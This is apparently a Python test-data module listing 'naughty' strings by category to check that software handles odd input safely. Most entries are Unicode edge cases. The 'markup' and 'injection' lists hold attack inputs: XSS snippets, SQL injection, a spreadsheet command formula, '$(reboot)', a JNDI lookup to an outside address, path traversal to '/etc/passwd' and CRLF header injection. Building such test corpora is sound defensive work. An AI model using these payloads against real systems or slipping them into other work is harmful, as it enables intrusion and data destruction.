"""Strings that break what reads them carelessly, by category; generated, so that whole ranges are among them."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _around(characters: str) -> list[str]:
    return [f"Har{each}bour" for each in characters]


NAUGHTY: Mapping[str, list[str]] = {
    "C0 controls": _around("".join(map(chr, range(0x20))) + "\x7f"),
    "C1 controls": _around("".join(map(chr, range(0x80, 0xA0)))),
    "escape sequences": [
        "\x1b[31mHarbour\x1b[0m",
        "\x1b]0;Harbour\x07",
        "\x9b2JHarbour",
        "\x1b[2K\rHarbour",
        "\b" * 40,
    ],
    "bidi controls": [*_around(_BIDI), f"{_BIDI}Harbour", "\u202eruobraH"],
    "right to left": ["مرحبا بالعالم", "שלום עולם", "اَلْعَرَبِيَّةُ Harbour 12", "ﷺ", "test\u200ftest"],
    "zero width": _around("\u200b\u200c\u200d\u2060\ufeff\xad\u180e\u034f\u2028\u2029\x85"),
    "byte order marks": ["\ufeffHarbour", "\ufffeHarbour", "ï»¿Harbour", "\ufeff\ufeff\ufeff"],
    "noncharacters": _around("\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0001ffff\U0010fffe\U0010ffff"),
    "private use and tags": _around("\ue000\uf8ff\U000f0000\U00100000\U000e0041\U000e007f"),
    "lone surrogates": [*_around("\ud800\udbff\udc00\udfff"), "\udc00\ud800", "\ud800" * 3, "\ud83d Harbour \ude00"],
    "combining marks": [
        "H" + "\u0335\u0321\u0327" * 20 + "arbour",
        "Z\u0351\u036b\u0343" * 8,
        "\u0301Harbour",
        "e\u0301",
    ],
    "emoji": ["👩‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳🇩🇪", "👋🏿", "❤️", "1️⃣", "😀" * 50, "\U0001f9d1\u200d"],
    "homoglyphs": ["Ηarbour", "Наrbоur", "Ｈａｒｂｏｕｒ", "ℋ𝒶𝓇𝒷ℴ𝓊𝓇", "Harb⁰ur", "ﬁﬂ"],
    "markup": [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "]]>",
        "<!--",
        "--><b>",
        "&lt;b&gt;",
        "&amp;amp;amp;lt;",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#x202e;",
        "&NotAnEntity;",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
    ],
    "injection": [
        "'; DROP TABLE line; --",
        '" OR ""="',
        "1;SELECT pg_sleep(9)",
        "=1+1",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "$(reboot)",
        "`id`",
        "| ls",
        "${jndi:ldap://198.51.100.1/a}",
        "{{7*7}}",
        "#{7*7}",
        "%0d%0aSet-Cookie: a=b",
        "../../etc/passwd",
        "%00",
        "con.txt",
    ],
    "format strings": ["%s%s%n", "%(asctime)s", "{0}", "{self.__class__}", "%d %x", "{}", "%%", "$s", "{!r:>99}"],
    "JSON": ['"', "\\", "\\u0000", '\\"', '{"a": 1}', "[1, 2", "null", "NaN", "\\ud800", "/", "\u2028"],
    "like numbers": ["0", "-0", "1e400", "1E-999", "0x1F", "9" * 30, "Infinity", "-1.", "0b1", "١٢٣", "½", "1,000.00"],
    "like nothing": ["undefined", "None", "nil", "true", "NULL", "N/A", "\u3000", "-", "...", "\xa0"],
    "white space": ["a\tb", "a\r\nb", "a\x0bb", "a\x0cb", "a\u2003b", "a\u3000b", "\n\n\nHarbour\n\n\n"],
    "long": ["x" * 100_000, "harbour " * 20_000, "字" * 50_000, "\u0301" * 5_000],
}
